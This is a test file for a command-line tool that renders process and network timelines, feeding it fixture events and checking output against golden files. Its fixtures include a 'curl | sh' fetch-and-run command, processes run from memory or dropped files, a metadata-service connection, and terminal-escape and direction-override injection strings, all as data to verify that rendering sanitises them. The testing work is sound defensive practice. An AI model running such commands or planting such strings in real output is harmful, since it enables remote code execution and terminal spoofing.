import { readFileSync, writeFileSync } from 'node:fs'
import t from 'tap'
import { coloured, plain } from '#cli/render/paint.ts'
import { textWidth } from '#cli/render/text.ts'
import { timelineLines } from '#cli/render/timeline.ts'
import type { ProcessInfo, TimelineEvent } from '#proto/api.ts'
import { accept, close, connect, dns, listen } from '#test/fixtures/socket-events.ts'
import {
  containerStarted,
  coverage,
  exec,
  exit,
  gap,
  processInfo,
} from '#test/fixtures/timeline-events.ts'

const time = (second: number): { readonly time: string } => ({
  time: `2026-07-01T15:02:${String(second).padStart(2, '0')}.250000Z`,
})
const child = (pid: number, parentPid: number) => ({
  pid,
  parentId: `b00t-${parentPid}-0`,
  parentPid,
})
const host = { containerId: 'host', container: 'host', namespace: '', pod: '', workload: '' }
const other = { containerId: 'e'.repeat(64), namespace: '', pod: '', container: '', workload: '' }

const story: readonly TimelineEvent[] = [
  containerStarted(time(1)),
  exec({ pid: 1, argv: ['/entrypoint.sh', '--port', '8080'], entry: 'init' }, time(1)),
  exec({ ...child(2, 1), argv: ['sh', '-c', "curl -s 'http://x' | sh"] }, time(2)),
  exec({ ...child(3, 2), argv: ['curl', '-s', 'http://x'], uid: 33, euid: 33 }, time(3)),
  exit({ ...child(3, 2) }, { ...time(3), exitCode: 7 }),
  exec(
    { ...child(4, 2), argv: ['\x1b[2J\x1b[H', '\u202etxt.exe', 'a\nb', ''], fileOrigin: 'memfd' },
    time(4),
  ),
  exec({ ...child(4, 2), argv: ['/tmp/second'], fileOrigin: 'dropped' }, time(5)),
  gap({ ...time(5), containerId: containerStarted().containerId }),
  exit(
    { ...child(4, 2) },
    { ...time(6), exitCode: null, signal: 9, signalName: 'SIGKILL', lifetimeUs: 252e6 },
  ),
  exit({ ...child(6, 5), exe: '/bin/worker' }, { ...time(6), forked: true, lifetimeUs: 180 }),
  exit({ ...child(2, 1) }, { ...time(7), lifetimeUs: 5e6 }),
  exec(
    { pid: 70, argv: ['systemd'], snapshot: true, argvTruncated: true, argvBytes: 9_999 },
    { ...host, ...time(8) },
  ),
  exec({ pid: 80, argv: ['漢字', 'x'.repeat(300)], argvRedacted: 1 }, { ...other, ...time(9) }),
  gap({ ...time(9), lost: null }),
]

const api = { pid: 41, exe: '/app/api' }
const psql = { ...child(43, 41), exe: '/usr/bin/psql' }
const worker = { ...processInfo({ pid: 52, exe: '/usr/sbin/nginx' }) }
const listener = { ...processInfo({ pid: 51, exe: '/usr/sbin/nginx' }) }
const web = {
  containerId: 'a1'.repeat(32),
  pod: 'web-0',
  workload: 'web',
  workloadType: 'statefulset',
}
const to = (address: string, port: number, name = '', more = {}) => ({
  peer: { address, port, name, workload: '', kind: 'private' as const, ...more },
})
const by = (process: ProcessInfo, second: number) => ({ process, ...time(second) })
const from = (port: number) => ({
  local: { address: '10.244.1.18', port: 8_080 },
  ...to('10.244.1.17', port, '', { workload: 'api', namespace: 'payments', kind: 'pod' }),
})
const apiProcess = processInfo(api)
const psqlProcess = processInfo(psql)

/** What a person sees of an API with a database, a metadata service, a closed port and a hostile name; and of its server. */
const sockets: readonly TimelineEvent[] = [
  exec({ ...api, argv: ['/app/api', '--serve'], entry: 'init', snapshot: true }, time(1)),
  connect({
    ...by(apiProcess, 1),
    ...to('10.1.2.3', 5_432, 'db.payments.svc', {
      workload: 'db',
      namespace: 'payments',
      kind: 'pod',
    }),
    socket: 7,
    snapshot: true,
    latencyUs: null,
  }),
  listen({ ...by(apiProcess, 1), snapshot: true }),
  exec({ ...psql, argv: ['psql', '-h', 'db.payments.svc'], uid: 33, euid: 33 }, time(2)),
  dns({
    ...by(psqlProcess, 2),
    name: 'db.payments.svc.payments.svc',
    rcode: 'NXDOMAIN',
    answers: [],
    latencyUs: 480,
  }),
  dns(by(psqlProcess, 2)),
  connect({
    ...by(psqlProcess, 2),
    socket: 8,
    ...to('10.1.2.3', 5_432, 'db.payments.svc', {
      workload: 'db',
      namespace: 'payments',
      kind: 'pod',
    }),
  }),
  close({ ...by(psqlProcess, 3), socket: 8, durationUs: 812_000 }),
  exit(psql, { ...time(3), lifetimeUs: 900_000 }),
  dns({ ...by(apiProcess, 4), name: 'api.example.com', type: 'AAAA', answers: [] }),
  dns({ ...by(apiProcess, 4), name: 'api.example.com', rcode: '', answers: [], latencyUs: null }),
  dns({
    ...by(apiProcess, 4),
    name: 'x) → 10.0.0.1\x1b[2J',
    answers: ['203.0.113.7', 'a b'],
    count: 3,
  }),
  connect({
    ...by(apiProcess, 5),
    socket: 9,
    ...to('203.0.113.7', 443, 'x) established\x1b[2J', { kind: 'external' }),
    outcome: 'timeout',
    latencyUs: 127e6,
  }),
  connect({
    ...by(apiProcess, 5),
    socket: 10,
    ...to('169.254.169.254', 80, '', { kind: 'metadata' }),
    latencyUs: 210,
  }),
  close({
    ...by(apiProcess, 5),
    socket: 10,
    ...to('169.254.169.254', 80),
    sentBytes: 98,
    receivedBytes: 1_674,
    durationUs: 1_900,
    closedBy: 'local',
  }),
  connect({
    ...by(apiProcess, 6),
    socket: 0,
    ...to('fd00::9', 9_000),
    outcome: 'refused',
    latencyUs: 90,
    maxLatencyUs: 3_200,
    count: 1_204,
  }),
  connect({
    ...by(apiProcess, 6),
    socket: 11,
    transport: 'udp',
    outcome: 'unknown',
    latencyUs: null,
    ...to('10.0.0.123', 123, 'ntp'),
  }),
  close({
    ...by(apiProcess, 6),
    socket: 11,
    transport: 'udp',
    sentBytes: 48,
    receivedBytes: 96,
    sentPackets: 1,
    receivedPackets: 2,
    durationUs: 30_000,
    closedBy: 'unknown',
    ...to('10.0.0.123', 123),
  }),
  close({
    ...by(apiProcess, 31),
    socket: 7,
    ongoing: true,
    sentBytes: 500,
    receivedBytes: 7_000,
    durationUs: 30_010_000,
    closedBy: 'unknown',
    ...to('10.1.2.3', 5_432),
  }),
  close({
    ...by(apiProcess, 59),
    socket: 7,
    ongoing: true,
    sentBytes: 700,
    receivedBytes: 9_000,
    durationUs: 60_020_000,
    closedBy: 'unknown',
    ...to('10.1.2.3', 5_432),
  }),
  close({ ...by(apiProcess, 59), socket: 3, ...to('10.1.2.3', 6_379), durationUs: 3e11 }),
  listen({ ...web, ...by(listener, 10), local: { address: '::', port: 8_080 } }),
  accept({ ...web, ...by(listener, 11), socket: 20, ...from(45_678) }),
  accept({ ...web, ...by(listener, 11), socket: 21, ...from(45_679) }),
  close({
    ...web,
    ...by(worker, 12),
    socket: 20,
    direction: 'inbound',
    ...from(45_678),
    durationUs: 700_000,
  }),
  close({
    ...web,
    ...by(worker, 13),
    socket: 0,
    direction: 'inbound',
    ...from(0),
    count: 320,
    sentBytes: 4e6,
    durationUs: 9e6,
    minDurationUs: 300,
    maxDurationUs: 91_000,
  }),
]

const golden = (name: string): URL => new URL(`../../golden/${name}.txt`, import.meta.url)

const draw = (events: readonly TimelineEvent[], width: number, more?: string): string =>
  `${[...timelineLines({ coverage: [coverage({ gaps: 2, lost: null })], events, next: null }, more, { paint: plain, width })].join('\n')}\n`

for (const [name, events, width] of [
  ['timeline-wide', story, Number.POSITIVE_INFINITY],
  ['timeline-100', story, 100],
  ['timeline-60', story, 60],
  ['timeline-sockets-wide', sockets, Number.POSITIVE_INFINITY],
  ['timeline-sockets-160', sockets, 160],
  ['timeline-sockets-100', sockets, 100],
] as const) {
  t.test(`a story with hostile arguments or names: ${name}`, async (t) => {
    const text = draw(events, width, '12 more events; use --limit 26')
    if (process.env.MAYFLY_UPDATE_GOLDEN) writeFileSync(golden(name), text)
    t.equal(text, readFileSync(golden(name), 'utf8'))
    t.notMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/)
  })
}

t.test('process lines fit the terminal they are for', async (t) => {
  for (const width of [80, 100, 120]) {
    const lines = [story, sockets].flatMap((events) => draw(events, width).split('\n').slice(3))
    for (const line of lines)
      t.ok(textWidth(line) <= width, `${textWidth(line)} <= ${width}: ${line}`)
  }
})

t.test('colours never come from the data', async (t) => {
  const lines = [
    ...timelineLines({ coverage: [], events: [...story, ...sockets], next: null }, undefined, {
      paint: coloured,
      width: 100,
    }),
  ]
  const sequences = new Set(lines.join('\n').match(/\x1b[^m]*m/g))
  t.strictSame(
    [...sequences].filter((sequence) => !/^\x1b\[(?:1|2|22|31|32|33|39)m$/.test(sequence)),
    [],
  )
})

t.test('nothing found says what to try', async (t) => {
  const lines = [
    ...timelineLines({ coverage: [], events: [], next: null }, undefined, {
      paint: plain,
      width: 80,
    }),
  ]
  t.match(lines.join('\n'), /No event matches/)
})

t.test('a chain of ten thousand forks neither overflows nor pushes the text away', async (t) => {
  const events = Array.from({ length: 10_000 }, (_, at) =>
    exec({ ...child(at + 1, at), argv: [`deep${at}`] }),
  )
  const lines = [
    ...timelineLines({ coverage: [], events, next: null }, undefined, { paint: plain, width: 120 }),
  ]
  t.match(lines.at(-1), /\(level 9999\) deep9999$/)
  t.ok(textWidth(lines.at(-1) ?? '') <= 120)
})
